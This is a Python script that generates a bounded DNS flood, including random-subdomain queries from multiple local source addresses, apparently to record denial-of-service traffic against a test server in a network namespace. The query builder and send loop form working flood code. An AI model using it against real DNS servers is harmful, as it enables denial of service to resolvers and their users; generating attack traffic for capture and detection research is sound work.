"""Send a bounded burst of DNS queries from many source addresses (the DoS scenario).

Usage: dns_flood.py --server IP --count N --max-seconds S --name NAME [--rate Q]
                    [--random-subdomains] SRC [SRC ...]

Every source address must already be configured on a local interface (one address is a
flood from a single source). The burst stops after COUNT queries or MAX-SECONDS,
whichever comes first, and never sends anywhere but SERVER (a test host in a network
namespace of the capture script). With --rate the queries are paced to at most Q a
second; without it they go out as fast as the capture keeps up. With --random-subdomains
each query asks for a name of its own under NAME (a random label, as a random-subdomain
flood does); the labels come from a fixed seed, so a recording can be made again.
"""

from __future__ import annotations

import argparse
import random
import socket
import struct
import time

LABEL = "abcdefghijklmnopqrstuvwxyz0123456789"


def query(qid: int, name: str) -> bytes:
    header = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return header + labels + struct.pack("!HH", 1, 1)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--server", required=True)
    parser.add_argument("--count", type=int, default=20000)
    parser.add_argument("--max-seconds", type=float, default=20.0)
    parser.add_argument("--name", required=True)
    parser.add_argument("--rate", type=float, default=0.0, help="queries a second (0: no pacing)")
    parser.add_argument("--random-subdomains", action="store_true")
    parser.add_argument("sources", nargs="+")
    args = parser.parse_args()
    rng = random.Random(53)
    socks = []
    for src in args.sources:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((src, 0))
        sock.setblocking(False)
        socks.append(sock)
    start = time.monotonic()
    deadline = start + args.max_seconds
    sent = 0
    while sent < args.count and time.monotonic() < deadline:
        if args.rate > 0:
            due = start + sent / args.rate
            now = time.monotonic()
            if due > now:
                time.sleep(min(due, deadline) - now)
                continue
        sock = socks[sent % len(socks)]
        try:
            name = args.name
            if args.random_subdomains:
                label = "".join(rng.choice(LABEL) for _ in range(10))
                name = f"{label}.{name}"
            sock.sendto(query(rng.randrange(65536), name), (args.server, 53))
            sent += 1
        except BlockingIOError:
            time.sleep(0.001)
        if args.rate <= 0 and sent % 200 == 0:
            time.sleep(0.005)  # a burst, not a wall: lets the capture keep up
    print(f"sent {sent} queries from {len(socks)} addresses")


if __name__ == "__main__":
    main()
